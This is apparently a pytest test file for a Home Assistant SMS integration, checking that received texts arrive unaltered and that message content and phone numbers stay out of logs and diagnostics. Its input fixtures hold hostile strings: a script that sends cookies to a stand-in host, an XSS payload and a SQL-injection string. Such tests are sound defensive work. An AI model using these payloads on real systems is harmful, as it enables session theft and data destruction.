"""Texts of every kind arrive as they are, and stay out of logs and diagnostics."""

import json
import logging
from typing import Any, Final

from homeassistant.core import HomeAssistant
import pytest
from pytest_homeassistant_custom_component.components.diagnostics import (
    get_diagnostics_for_config_entry,
)
from pytest_homeassistant_custom_component.typing import ClientSessionGenerator

from .home import PHONE, Home

_TEXTS: Final = {
    "emoji": "Grüße 👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 zażółć",
    "right to left": "שלום \u202eevil\u202c مرحبا بالعالم 123",
    "long": "A text of two thousand characters. " * 57 + "12345",
    "html": '<b>bold</b> &amp; <img src=x onerror="alert(1)"> </textarea>',
    "script": "<script>fetch('//example.invalid/'+document.cookie)</script>",
    "template": "{{ states('sun.sun') }} {% for x in y %} {# no #} ${a} %(b)s {0} %s",
    "null": "before\x00after\x00",
    "controls": "bell \x07 escape \x1b[31mred\x1b[0m delete \x7f \x85 \u2028 \u2029",
    "newlines": "\nfirst\r\nsecond\n\n\tthird  \n",
    "spaces": "  two before, two after  ",
    "quotes": "\"it's\" \\ \\n \\u0041 `x` '); DROP TABLE states;--",
    "json": '{"request": "getinbox", "status": "error", "message": "Invalid user"}',
    "nothing": "",
    "log line": "2027-02-10 12:00:00.000 ERROR (MainThread) [smskit] it breaks",
}


def _half(text: str) -> str:
    return json.dumps(
        {
            "status": "success",
            "inbox": [
                {"id": "1", "from": PHONE, "message": text, "date": ""},
            ],
        }
    )


@pytest.mark.parametrize("name", _TEXTS)
async def test_arrives_as_it_is(
    home: Home, name: str, caplog: pytest.LogCaptureFixture
) -> None:
    """A text is the same everywhere, survives a restart and stays out of the log."""
    caplog.set_level(logging.DEBUG, "custom_components.smskit")
    text = _TEXTS[name]
    home.receive(text, id="12")
    await home.poll()
    for _ in range(2):
        (message,) = await home.messages()
        assert message["text"] == text
        assert home.texts == [text]
        assert (
            home.shown(home.entity("event", "message_received")).attributes["text"]
            == text
        )
        assert (
            home.shown(home.entity("sensor", "last_message")).attributes["text"] == text
        )
        (shown,) = home.shown(home.entity("sensor", "unread_messages")).attributes[
            "messages"
        ]
        assert shown["text"] == text
        assert len(home.shown(home.entity("sensor", "last_message")).state) < 40
        await home.restart()
    _assert_not_logged(caplog, text)


@pytest.mark.parametrize(
    ("text", "arrives"),
    [
        ("half \ud83d of a pair", "half \ufffd of a pair"),
        ("\udc4d", "\ufffd"),
        ("\ud83d\ude00 \ude00\ud83d", "\U0001f600 \ufffd\ufffd"),
    ],
)
async def test_half_a_pair(home: Home, text: str, arrives: str) -> None:
    """Half a surrogate pair, which nothing can store, arrives as a replacement."""
    home.portal.fail("not_json", "getinbox", times=2, text=_half(text))
    await home.poll()
    await home.poll()
    assert home.texts == [arrives]
    await home.restart()
    (message,) = await home.messages()
    assert message["text"] == arrives


@pytest.mark.expected_log("Error fetching 127.0.0.1 inbox")
@pytest.mark.parametrize(
    "fault", ["cut", "html_page", "php_notice", "http_500", "not_json"]
)
async def test_nothing_of_a_message_is_logged(
    home: Home, caplog: pytest.LogCaptureFixture, fault: str
) -> None:
    """No text and no number is logged at any level, whatever comes of a poll."""
    caplog.set_level(logging.DEBUG, "custom_components.smskit")
    text = "The secret is swordfish"
    home.receive(text)
    broken = f'{{"inbox": [{{"from": "{PHONE}", "message": "{text}"'
    home.portal.fail(fault, "getinbox", times=1, processed=True, text=broken)
    await home.poll()
    # One that is logged in every case: what a fault gives may be an answer.
    home.portal.fail("cut", "getinbox", times=1)
    await home.poll()
    await home.poll()
    assert home.texts == [text]
    await home.call("mark_messages_read", all=True)
    await home.call("delete_messages", all=True)
    await home.reload()
    _assert_not_logged(caplog, text)


def _assert_not_logged(caplog: pytest.LogCaptureFixture, text: str) -> None:
    records = [
        record
        for record in caplog.get_records("call")
        if record.name.startswith("custom_components.smskit")
    ]
    assert records
    for record in records:
        line = logging.Formatter("%(message)s").format(record)
        assert PHONE[-9:] not in line
        assert not text.strip() or text.strip() not in line


async def test_diagnostics(
    hass: HomeAssistant, home: Home, hass_client: ClientSessionGenerator
) -> None:
    """The diagnostics count messages, and have nothing of what they say."""
    home.receive("The secret is swordfish", id="987654321")
    await home.poll()
    diagnostics: Any = await get_diagnostics_for_config_entry(
        hass, hass_client, home.entry
    )
    assert diagnostics["inbox"] == {"kept": 1, "unread": 1}
    text = json.dumps(diagnostics)
    for part in "swordfish", PHONE[-9:], "987654321":
        assert part not in text
